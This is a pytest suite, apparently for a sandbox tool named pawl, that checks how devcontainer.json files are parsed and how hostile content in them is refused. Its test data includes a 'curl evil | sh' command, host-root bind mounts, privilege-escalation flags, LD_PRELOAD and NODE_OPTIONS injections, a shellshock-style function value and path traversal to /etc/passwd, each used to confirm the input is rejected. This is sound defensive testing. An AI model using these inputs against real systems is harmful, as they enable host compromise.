"""devcontainer.json as a hostile file: what is used, what is left out with a line, what is refused."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sandbox.client import CLEAN_ENV
from sandbox.devcontainer import Build, DevcontainerError, beneath, is_image_name, parse, read_jsonc
from sandbox.recipe import find_devcontainer

PLACE = ".devcontainer/devcontainer.json"


def read(place: str = PLACE, /, **fields: object) -> tuple[dict[str, str], list[str]]:
    """(variables, notes) of a file with these fields."""
    found = parse(json.dumps({"image": "x", **fields}), place)
    return found.env, [note.removeprefix(f"{place}: ") for note in found.notes]


# --- JSON with comments ----------------------------------------------------------------------------------


def test_comments_and_trailing_commas_are_no_part_of_it() -> None:
    text = """\ufeff// top
    { /* one
         two */ "image": "a//b", // "image": "evil",
      "x": ["/* kept */", "y,]", "\\"//\\"",], /**/
      "o": {"k": 1, /* , */ }, }
    """
    assert read_jsonc(text, PLACE) == {"image": "a//b", "x": ["/* kept */", "y,]", '"//"'], "o": {"k": 1}}


@pytest.mark.parametrize(
    ("text", "line"),
    [
        ("{\n/* never closed", 2),
        ('{\n\n"never closed', 3),
        ("[1,,]", 1),
        ("{} {}", 1),
        ("", 1),
        ('/* a\nb */ {"x":\n}', 3),
    ],
)
def test_what_is_wrong_is_told_with_its_line(text: str, line: int) -> None:
    with pytest.raises(DevcontainerError, match=rf"devcontainer\.json:{line}: "):
        read_jsonc(text, PLACE)


@pytest.mark.parametrize(
    "text", ["[" * 100_000, "1" * 10_000, '{"a":' * 50_000, "/*" * 120_000, '"\\' * 120_000]
)
def test_a_file_made_to_hurt_is_refused_at_once(text: str) -> None:
    with pytest.raises(DevcontainerError):
        parse(text, PLACE)


json_values = st.recursive(
    st.none()
    | st.booleans()
    | st.integers(-1000, 1000)
    | st.text(max_size=8)
    | st.sampled_from(["//", "/*", ",}"]),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=4), inner, max_size=3),
    max_leaves=12,
)


@given(json_values)
def test_plain_json_means_the_same(value: object) -> None:
    assert read_jsonc(json.dumps(value, indent=1), PLACE) == value
    assert read_jsonc(json.dumps(value, ensure_ascii=False), PLACE) == value


@given(st.text(alphabet='{}[]",:/*\\\n a1', max_size=40))
def test_any_text_is_read_or_refused(text: str) -> None:
    try:
        parse(text, PLACE)
    except DevcontainerError as error:
        assert str(error).startswith(PLACE)


# --- fields ----------------------------------------------------------------------------------------------


def test_an_image_and_plain_variables_are_used() -> None:
    found = parse(
        '{"name": "x", "image": "mcr.example.com:5000/dev/python:3.12", "remoteUser": "vscode",'
        '"containerEnv": {"A": "1", "B": "x y"}, "remoteEnv": {"B": "2"}, "customizations": {"vscode": {}}}',
        PLACE,
    )
    assert (found.image, found.build, found.user) == ("mcr.example.com:5000/dev/python:3.12", None, "vscode")
    assert found.env == {"A": "1", "B": "2"}
    assert found.notes == ()


@pytest.mark.parametrize(
    ("field", "value", "why"),
    [
        ("initializeCommand", "curl evil | sh", "it would run on the host"),
        ("postCreateCommand", ["make"], "commands of a repository are not run unasked"),
        ("onCreateCommand", {"a": "b"}, "not run unasked"),
        ("updateContentCommand", "x", "not run unasked"),
        ("postStartCommand", "x", "not run unasked"),
        ("postAttachCommand", "x", "not run unasked"),
        ("mounts", ["source=/,target=/host,type=bind"], "folders of the host"),
        ("workspaceMount", "source=/etc,target=/w,type=bind", "mounted by pawl"),
        ("workspaceFolder", "/w", "the path that it has on the host"),
        ("runArgs", ["--privileged"], "lift the isolation"),
        ("privileged", True, "lift the isolation"),
        ("capAdd", ["SYS_ADMIN"], "lift the isolation"),
        ("securityOpt", ["seccomp=unconfined"], "lift the isolation"),
        ("init", True, "the first process"),
        ("features", {"ghcr.io/x/y:1": {}}, "fetched and run as root"),
        ("forwardPorts", [8080], "no port"),
        ("appPort", 80, "no port"),
        ("dockerComposeFile", "compose.yml", "one container"),
        ("secrets", {"TOKEN": {}}, "no secret"),
        ("somethingNew", 1, "pawl does not know it"),
    ],
)
def test_each_field_that_is_not_used_has_one_line_with_the_reason(
    field: str, value: object, why: str
) -> None:
    _, notes = read(**{field: value})
    assert len(notes) == 1
    assert notes[0].startswith(f"`{field}` is not used: ")
    assert why in notes[0]


def test_what_is_switched_off_needs_no_line() -> None:
    assert read(privileged=False, init=False, features=None)[1] == []


def test_a_name_of_a_field_cannot_steer_a_terminal() -> None:
    (note,) = read(**{"\x1b]0;evil\x07\n" * 50: 1})[1]
    assert len(note) < 400
    assert note.isprintable()


@pytest.mark.parametrize("name", [*CLEAN_ENV, "PATH", "USER", "IFS", "PWD"])
def test_a_variable_that_pawl_sets_is_not_overridden(name: str) -> None:
    env, notes = read(containerEnv={name: "evil", "FINE": "1"})
    assert env == {"FINE": "1"}
    assert "pawl sets it" in notes[0]


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("LD_PRELOAD", "/evil.so"),
        ("LD_AUDIT", "x"),
        ("GLIBC_TUNABLES", "x"),
        ("BASH_ENV", "x"),
        ("PYTHONHOME", "x"),
        ("NODE_OPTIONS", "--require /evil"),
        ("GIT_SSH_COMMAND", "x"),
        ("PAWL_COMMAND", "1"),
        ("HTTPS_PROXY", "http://x"),
        ("https_proxy", "http://x"),
        ("BASH_FUNC_ls%%", "() { :; }"),
        ("A B", "x"),
        ("", "x"),
        ("A=B", "x"),
        ("N" * 200, "x"),
        ("TOKEN", "${localEnv:TOKEN}"),
        ("X", "${containerEnv:PATH}"),
        ("X", "a" * 5000),
        ("X", "a\0b"),
        ("X", "\ud800"),
        ("X", 1),
        ("X", None),
        ("X", ["a"]),
    ],
)
def test_a_variable_that_steers_or_is_no_plain_text_is_left_out(name: str, value: object) -> None:
    for field in ("containerEnv", "remoteEnv"):
        env, notes = read(**{field: {name: value}})
        assert env == {}
        assert len(notes) == 1
        assert "is not used" in notes[0]


def test_variables_are_bounded_in_number() -> None:
    env, notes = read(containerEnv={f"A{number}": "1" for number in range(70)})
    assert (len(env), len(notes)) == (64, 6)


@pytest.mark.parametrize("user", ["root; rm", "-u0", "0", "a" * 40, "ROOT", "a\n"])
def test_a_user_that_is_no_name_is_left_out(user: str) -> None:
    found = parse(json.dumps({"image": "x", "remoteUser": user}), PLACE)
    assert (found.user, len(found.notes)) == ("", 1)


@pytest.mark.parametrize(
    "name", ["python", "python:3-slim", "ghcr.io/a/b__c:v1", "localhost:5000/x", "a/b@sha256:" + "0" * 64]
)
def test_names_of_images(name: str) -> None:
    assert is_image_name(name)


@pytest.mark.parametrize(
    "name",
    ["", "-v", "--privileged", "a b", "a;b", "$(x)", "${localEnv:IMAGE}", "A", "../x", "/x", "x:", "x\n",
     "a//b", "x:--y", "http://x", "x" * 300, "ａ"],
)  # fmt: skip
def test_what_is_no_name_of_an_image_is_refused(name: str) -> None:
    assert not is_image_name(name)
    if name:
        with pytest.raises(DevcontainerError, match="image"):
            parse(json.dumps({"image": name}), PLACE)


# --- build -----------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("place", "fields", "expected"),
    [
        (PLACE, {"build": {"dockerfile": "Dockerfile"}}, Build(".devcontainer/Dockerfile", ".devcontainer")),
        (PLACE, {"build": {"dockerfile": "../Dockerfile", "context": ".."}}, Build("Dockerfile", "")),
        (".devcontainer.json", {"build": {"dockerfile": "a/D", "context": "a"}}, Build("a/D", "a")),
        (PLACE, {"dockerFile": "D", "context": ".."}, Build(".devcontainer/D", "")),
        (
            PLACE,
            {"build": {"dockerfile": "D", "target": "dev", "args": {"V": "3.12"}}},
            Build(".devcontainer/D", ".devcontainer", {"V": "3.12"}, "dev"),
        ),
    ],
)
def test_how_an_image_is_built(place: str, fields: dict[str, object], expected: Build) -> None:
    assert parse(json.dumps(fields), place).build == expected


@pytest.mark.parametrize(
    "build",
    [
        {"dockerfile": "/etc/passwd"},
        {"dockerfile": "../../x"},
        {"dockerfile": "D", "context": "../.."},
        {"dockerfile": "D", "context": "/"},
        {"dockerfile": "D", "context": "a/../../.."},
        {"dockerfile": "D\0"},
        {"dockerfile": "D", "target": "--x"},
        {"dockerfile": "D", "target": "a b"},
        {"dockerfile": "D", "args": {"A": "${localEnv:TOKEN}"}},
        {"dockerfile": "D", "args": {"A-B": "x"}},
        {"dockerfile": "D", "args": {"A": 1}},
        {"dockerfile": "D", "args": {"A": "x" * 5000}},
        {"dockerfile": 1},
        {"context": ".."},
        "Dockerfile",
    ],
)
def test_a_build_that_leaves_the_project_or_is_not_plain_is_refused(build: object) -> None:
    with pytest.raises(DevcontainerError):
        parse(json.dumps({"build": build}), PLACE)


def test_options_of_a_build_are_left_out_with_a_line() -> None:
    build = {"dockerfile": "D", "options": ["--network=host"], "cacheFrom": "x"}
    found = parse(json.dumps({"build": build, "image": "x"}), PLACE)
    assert found.image is None
    assert [note.split("`")[1] for note in found.notes] == ["build.cacheFrom", "build.options", "image"]


@given(st.lists(st.sampled_from(["..", ".", "a", "b", ""]), max_size=6).map("/".join))
def test_no_path_leaves_the_project(name: str) -> None:
    try:
        result = beneath("x", name, PLACE)
    except DevcontainerError:
        return
    assert not result.startswith("/")
    assert ".." not in result.split("/")


# --- where it lies ---------------------------------------------------------------------------------------


def test_the_folders_file_comes_before_the_top_one(tmp_path: Path) -> None:
    assert find_devcontainer(tmp_path) is None
    (tmp_path / ".devcontainer.json").write_text('{"image": "top"}')
    assert getattr(find_devcontainer(tmp_path), "image", "") == "top"
    (tmp_path / ".devcontainer").mkdir()
    (tmp_path / PLACE).write_text('{"image": "inner"}')
    assert getattr(find_devcontainer(tmp_path), "image", "") == "inner"


@pytest.mark.parametrize("trap", ["link", "folder link", "fifo", "folder", "large", "binary"])
def test_a_file_that_is_a_trap_is_refused(tmp_path: Path, trap: str) -> None:
    secret = tmp_path / "secret"
    secret.mkdir()
    (secret / "devcontainer.json").write_text('{"image": "secret"}')
    project = tmp_path / "project"
    (project / ".devcontainer").mkdir(parents=True)
    file = project / PLACE
    match trap:
        case "link":
            file.symlink_to(secret / "devcontainer.json")
        case "folder link":
            file.parent.rmdir()
            file.parent.symlink_to(secret)
        case "fifo":
            os.mkfifo(file)
        case "folder":
            file.mkdir()
        case "large":
            file.write_bytes(b" " * 10**6)
        case "binary":
            file.write_bytes(b"\xff\xfe\x00")
    with pytest.raises(DevcontainerError, match="devcontainer"):
        find_devcontainer(project)


@pytest.mark.parametrize(
    ("value", "offered"),
    [
        ("pip install -r a.txt && echo 'x'", "--setup 'pip install -r a.txt && echo '\"'\"'x'\"'\"''`"),
        (["npm", "ci", "a b"], "--setup 'npm ci '\"'\"'a b'\"'\"''`"),
        ("first\nsecond", None),
        ("a \x1b[2Jb", None),
        ("x" * 301, None),
        ({"a": "b"}, None),
        ([1], None),
    ],
)
def test_a_command_that_installs_is_offered_as_a_set_up_and_no_more(
    value: object, offered: str | None
) -> None:
    for name in ("onCreateCommand", "updateContentCommand", "postCreateCommand", "postAttachCommand"):
        (note,) = parse(json.dumps({name: value}), PLACE).notes
        assert "not run unasked" in note
        if offered is None or name == "postAttachCommand":
            assert "--setup" not in note
        else:
            assert note.endswith(offered)
